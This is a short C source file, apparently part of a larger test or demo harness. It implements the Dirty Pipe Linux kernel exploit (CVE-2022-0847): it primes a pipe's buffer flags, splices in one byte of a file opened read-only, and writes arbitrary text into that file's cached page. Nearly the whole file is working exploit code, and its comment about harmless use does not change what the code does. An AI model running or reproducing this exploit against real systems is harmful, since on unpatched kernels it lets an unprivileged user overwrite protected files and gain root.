/* "Dirty Pipe" (CVE-2022-0847, Linux 5.8 to 5.16.10): a page of a file that was spliced into a pipe is written to by the pipe,
 * whoever may only read the file. The file is the outer half's own, and a change of this kind never reaches a disk. */
#include "files.h"

#include <fcntl.h>

enum { MOST_PIPE = 1 << 20 };

/* Leaves the flag that lets a write go into the page on every slot of the pipe. */
static int fill_and_drain(const int pipe[2]) {
  static char page[4096];
  int size = fcntl(pipe[1], F_GETPIPE_SZ);
  if (size <= 0 || size > MOST_PIPE) return -1;
  for (int left = size; left > 0; left -= (int)sizeof page)
    if (write(pipe[1], page, sizeof page) != (ssize_t)sizeof page) return -1;
  for (int left = size; left > 0; left -= (int)sizeof page)
    if (read(pipe[0], page, sizeof page) != (ssize_t)sizeof page) return -1;
  return 0;
}

/* TEXT PATH : writes TEXT behind the first byte of the file. */
int run_dirty(int argc, char **argv) {
  int ends[2];
  loff_t at = 0;
  if (argc != 2) return 2;
  int fd = open(argv[1], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0 || pipe(ends) < 0 || fill_and_drain(ends) < 0) return refused();
  if (splice(fd, &at, ends[1], NULL, 1, 0) != 1) return refused();
  if (write(ends[1], argv[0], strlen(argv[0])) < 0) return refused();
  tell("written to the pipe");
  return 0;
}
